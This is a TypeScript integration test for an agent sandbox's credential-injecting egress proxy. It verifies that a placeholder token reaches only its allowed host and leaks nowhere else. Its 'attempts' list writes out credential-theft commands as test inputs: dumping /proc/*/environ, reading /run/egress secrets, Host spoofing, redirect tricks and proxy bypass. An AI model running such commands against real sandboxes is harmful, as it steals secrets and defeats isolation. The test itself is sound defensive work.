import type { IncomingMessage, ServerResponse } from 'node:http'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { destination } from 'pino'
import { describe, expect, onTestFinished, test } from 'vitest'
import { connectDoors } from '../../src/doors.ts'
import type { SandboxHands } from '../../src/hands/sandbox-hands.ts'
import { createSandboxHands } from '../../src/hands/sandbox-hands.ts'
import { createLog } from '../../src/log.ts'
import { createPermitOf } from '../../src/permits.ts'
import { startProcess } from '../egress/egress-process.ts'
import { dialTo, serve, worldAuthority } from '../egress/test-proxy.ts'
import { providerOf } from '../hands/provider-of.ts'
import {
  dumpDatabase,
  everything,
  findIn,
  findInFiles,
  newWord,
  readProcesses,
  searchInside,
  spellingsOf,
} from '../support/canary-scan.ts'
import { inspectSession, plantInDaemon } from '../support/daemon-tells.ts'
import type { SandboxKind } from '../support/docker.ts'
import { sandboxKinds } from '../support/docker.ts'
import { newInstallation } from '../support/installation.ts'
import { keepAnswers } from '../support/kept-answers.ts'
import { temporaryFolder } from '../support/programs.ts'
import { readRawRuns } from '../support/raw-history.ts'
import { startStack } from '../support/stack.ts'
import { bash, listAll, outputsIn, program, turn } from './drive.ts'

const kinds = await sandboxKinds()
const placeholder = 'LONGHAND_PLACEHOLDER_0001'

/** A request as a host heard it. */
interface Heard {
  readonly url: string
  readonly headers: IncomingMessage['headers']
  readonly body: string
}

/** Hosts of the internet: the one that the credential is for, over TLS, and others. All of them misbehave when asked to. */
async function startWorld() {
  const [trusted, elsewhere]: [Heard[], Heard[]] = [[], []]
  const listen = (heard: Heard[]) => async (incoming: IncomingMessage, answer: ServerResponse) => {
    const { url = '', headers } = incoming
    heard.push({ url, headers, body: await text(incoming) })
    if (url === '/broken') answer.destroy()
    else if (url === '/garbage') answer.socket?.end('this is no HTTP\r\n\r\n')
    else if (url === '/cut') answer.writeHead(200, { 'Content-Length': 100 }).write('half', () => answer.destroy())
    else if (url === '/moved') answer.writeHead(302, { Location: 'http://web.test/moved' }).end()
    else answer.end(`heard ${url}`)
  }
  const listening = (heard: Heard[], name?: string) => serve((...exchange) => void listen(heard)(...exchange), name)
  const [api, other, plain] = await Promise.all([
    listening(trusted, 'api.test'),
    listening(elsewhere, 'other.test'),
    listening(elsewhere),
  ])
  for (const { server } of [api, other, plain]) onTestFinished(() => void server.close())
  const ports = { 'api.test:443': api.port, 'other.test:443': other.port }
  return { trusted, elsewhere, dial: dialTo({ ...ports, 'api.test:80': plain.port, 'web.test:80': plain.port }) }
}

/** A service whose sessions are given a credential, through the control socket of an egress process as by a worker. */
async function startPlace(kind: SandboxKind, data: string, dial: ReturnType<typeof dialTo>) {
  const logTo = (name: string) =>
    createLog(name, destination({ dest: join(data, 'logs', `${name}.log`), sync: true, mkdir: true }))
  const logger = logTo('stack')
  const egress = await startProcess(join(data, 'egress'), undefined, {
    dial,
    trusted: worldAuthority.certificate,
    log: logTo('egress'),
  })
  onTestFinished(() => egress[Symbol.asyncDispose]())
  const given = { token: '', version: 0, fault: '' }
  const stack = await startStack({
    logger,
    codecs: [],
    policy: { run: { events: 40, signals: 1_000, bytes: 2 * 1024 * 1024 } },
    hands: { execute: (...call) => hands.execute(...call) },
  })
  onTestFinished(() => stack[Symbol.asyncDispose]())
  const permitOf = createPermitOf({ ...stack.stores, box: stack.secrets, github: 'https://github.com', log: logger })
  const doors = connectDoors(
    { data },
    {
      async permitOf(...asked) {
        if (given.fault !== '') throw new Error(given.fault)
        const policy = { type: 'limited' as const, hosts: ['api.test'] }
        const credential = { placeholder, value: given.token, policy, headers: true, body: true }
        return { ...(await permitOf(...asked)), credentials: [credential] }
      },
      versionsOf: async (sessions) => new Map(sessions.map((session) => [session, given.version])),
      log: logger,
    },
  )
  const installation = newInstallation('canary')
  const provider = providerOf(kind, { folder: join(data, 'sandboxes'), installation, doors })
  onTestFinished(async () => {
    for (const row of await provider.list()) await provider.destroy(row)
  })
  const hands: SandboxHands = createSandboxHands({ provider, bindings: stack.stores.bindings, log: logger })
  return { stack, doors, given }
}

const key = `-H 'X-Key: ${placeholder}'`
/** What an agent does with a placeholder: what it is meant for, and then all to get hold of what stands behind it. */
const attempts = [
  `curl -sv https://api.test/header ${key} -u 'user:${placeholder}' 2>&1`,
  `curl -sv https://api.test/json -H 'Content-Type: application/json' -d '{"key":"${placeholder}"}' 2>&1`,
  `curl -sv https://api.test/form -d 'key=${placeholder}' 2>&1`,
  "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'",
  'ls -laR /run/egress /run/longhand; cat /run/egress/* 2>/dev/null',
  `curl -sv http://api.test/plain ${key} 2>&1`,
  `curl -svk https://other.test/other ${key} 2>&1; curl -svL https://api.test/moved ${key} 2>&1`,
  `curl -sv https://api.test/named ${key} -H 'Host: other.test' 2>&1; curl -sv https://api.test/${placeholder} 2>&1`,
  `for way in broken garbage cut; do curl -sv https://api.test/$way ${key} 2>&1; done`,
  `curl -sv https://api.test/upgrade ${key} -H 'Connection: Upgrade' -H 'Upgrade: websocket' 2>&1`,
  `(head -c 2000000 /dev/zero | tr '\\0' x; echo ${placeholder}) | curl -sv https://api.test/large -H 'Content-Type: text/plain' --data-binary @- 2>&1`,
  'for path in doors lease process; do curl -sv --noproxy "*" http://127.0.0.1:3128/$path 2>&1; done',
]

describe.each(kinds)('a credential of the network, with %s sandboxes', (kind) => {
  test('is heard by its host and found nowhere else', { timeout: 600_000 }, async () => {
    const [first, second] = [newWord('sk+"'), newWord('sk+"')]
    const tokens = [first, second].flatMap(spellingsOf)
    const planted = newWord('planted')
    const marks = spellingsOf(planted)

    const world = await startWorld()
    const data = await temporaryFolder()
    const { stack, doors, given } = await startPlace(kind, data, world.dial)
    Object.assign(given, { token: first, version: 1 })
    const { sdk, read: readAnswers } = keepAnswers(stack.urls[0] ?? '', stack.apiKey)
    const { agent } = await stack.prepare()
    const hosts = ['api.test', 'other.test', 'web.test', `${planted}.test`]
    const networking = { type: 'limited' as const, allowed_hosts: hosts }
    const environment = await sdk.beta.environments.create({ name: planted, config: { type: 'cloud', networking } })
    const session = await sdk.beta.sessions.create({ agent, environment_id: environment.id, title: planted })
    const run = async (...commands: readonly string[]) =>
      outputsIn(await turn(sdk, session.id, program(...commands.map(bash), 'SAY done')))

    const plants = [
      `echo ${planted} | tee /tmp/it > /workspace/it; PLANTED=${planted} nohup sleep 600 > /dev/null 2>&1 &`,
      `curl -s http://${planted}.refused.test; : ${planted.padEnd(100_000, 'x')}`,
    ]
    await run(...attempts, ...plants)
    // The same with another token, which the door cannot be told of at first.
    Object.assign(given, { token: second, version: 2, fault: planted })
    await doors.renew(session.id)
    given.fault = ''
    await doors.renew(session.id)
    await run(...attempts)

    expect(
      ['/header', '/json', '/form'].map((path) => keysIn(world.trusted.filter(({ url }) => url === path))),
    ).toEqual([
      [first, `user:${first}`, second, `user:${second}`],
      [first, second],
      [first, second],
    ])
    for (const path of ['/broken', '/garbage', '/cut', '/moved', '/upgrade'])
      expect(world.trusted.filter(({ url, headers }) => url === path && headers['x-key'] === second)).not.toEqual([])
    expect(world.trusted.filter(({ url }) => url === '/named')).toEqual([])
    const elsewhere = JSON.stringify(world.elsewhere)
    expect([findIn(elsewhere, tokens), findIn(elsewhere, [placeholder])]).toEqual([[], [placeholder]])
    expect(world.elsewhere.map(({ url }) => url)).toEqual(expect.arrayContaining(['/plain', '/other', '/moved']))

    // Inside, by the agent itself; of a container all that its image has, too.
    const places = kind === 'docker' ? everything : undefined
    const [secret, plant] = await run(searchInside(tokens, places), searchInside([...tokens, planted], places))
    expect(secret).toBe('(no output)')
    for (const place of [/^\/tmp\/it$/m, /^\/workspace\/it$/m, /^\/proc\/\d+\/environ$/m]) expect(plant).toMatch(place)

    const sinks = new Map<string, Uint8Array | string>()
    sinks.set('events', JSON.stringify(await listAll(sdk, session.id)))
    sinks.set('answers', readAnswers())
    const readRuns = () => readRawRuns(stack.temporal.workflowService, session.id)
    const dump = async () => (await dumpDatabase(stack.databaseUrl)).split('\n')
    const archived = async () => (await dump()).filter((row) => row.startsWith('archived_runs '))
    await expect.poll(async () => (await readRuns()).length - (await archived()).length).toBe(1)
    const runs = await readRuns()
    expect(runs.length).toBeGreaterThan(1)
    for (const [index, bytes] of runs.entries()) sinks.set(`history, ${index} runs ago`, bytes)
    const rows = await dump()
    sinks.set('database', rows.join('\n'))
    sinks.set('archive', rows.filter((row) => row.startsWith('archived_items ')).join('\n'))
    sinks.set('blobs', Buffer.concat([...(stack.blobs.blobs.get(session.id)?.values() ?? [])]))
    sinks.set('model', stack.model.requests.map(({ bytes }) => bytes).join('\n'))
    if (kind === 'local') {
      sinks.set('processes', Buffer.concat([...(await readProcesses([process.pid])).values()]))
    } else {
      await plantInDaemon(session.id, planted)
      for (const [name, told] of await inspectSession(session.id)) sinks.set(`docker's ${name}`, told)
    }
    for (const [name, bytes] of sinks) {
      expect([name, findIn(bytes, tokens)]).toEqual([name, []])
      expect([name, findIn(bytes, marks)]).not.toEqual([name, []])
    }

    // All that is kept in files: what was logged, doors, sandboxes.
    expect(await findInFiles(data, tokens)).toEqual([])
    const found = (await findInFiles(data, marks)).map((file) => file.slice(data.length + 1))
    for (const place of ['logs/stack.log', 'logs/egress.log', 'egress/', ...(kind === 'local' ? ['sandboxes/'] : [])])
      expect([place, found.some((file) => file.startsWith(place))]).toEqual([place, true])
  })
})

/** What stands in requests where the agent wrote its placeholder. */
function keysIn(requests: readonly Heard[]): readonly unknown[] {
  return requests.flatMap(({ url, headers, body }) => {
    if (url === '/json') return [JSON.parse(body).key]
    if (url === '/form') return [new URLSearchParams(body).get('key')]
    return [headers['x-key'], Buffer.from(headers.authorization?.split(' ')[1] ?? '', 'base64').toString()]
  })
}
